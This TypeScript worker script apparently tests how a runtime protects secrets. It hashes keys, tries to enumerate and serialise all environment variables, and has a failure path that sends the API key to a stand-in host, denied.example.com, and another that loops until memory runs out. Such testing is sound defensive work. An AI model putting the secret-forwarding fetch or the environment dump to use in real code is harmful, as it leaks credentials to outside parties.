interface Env {
  readonly API_KEY: string;
  readonly 'db.password': string;
  readonly REGION: string;
}

declare const process: { readonly env: Record<string, string | undefined> };

/** What a client may know of a secret: that it is the right one. */
async function digest(text: string): Promise<string> {
  return new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text))).toHex();
}

async function seen(env: Env): Promise<object> {
  return {
    fromEnv: await digest(env.API_KEY),
    fromProcess: await digest(process.env['API_KEY']!),
    ungranted: (env as unknown as Record<string, unknown>)['OTHER'] ?? null,
  };
}

function listed(env: Env): object {
  return {
    env: { ...env },
    processEnv: { ...process.env },
    keys: [...Object.keys(env), ...Object.keys(process.env)],
    isThere: ['API_KEY' in env, 'API_KEY' in process.env],
    printed: JSON.stringify([env, process.env]),
  };
}

async function fail(env: Env, how: string): Promise<never> {
  const held = env.API_KEY;
  if (how === 'throw') throw new Error(`something went wrong after ${held.length} characters`);
  if (how === 'denied') await fetch('https://denied.example.com/', { headers: { authorization: held } });
  const hoard: string[] = [];
  for (;;) hoard.push(held.repeat(1000) + String(hoard.length));
}

export default {
  async fetch(request: Request, env: Env): Promise<Response> {
    const path = new URL(request.url).pathname.split('/').at(-1)!;
    if (path === 'seen') return Response.json(await seen(env));
    if (path === 'listed') return Response.json(listed(env));
    if (path === 'region') return new Response(env.REGION);
    if (path === 'password') return new Response(await digest(env['db.password']));
    return fail(env, path);
  },
};
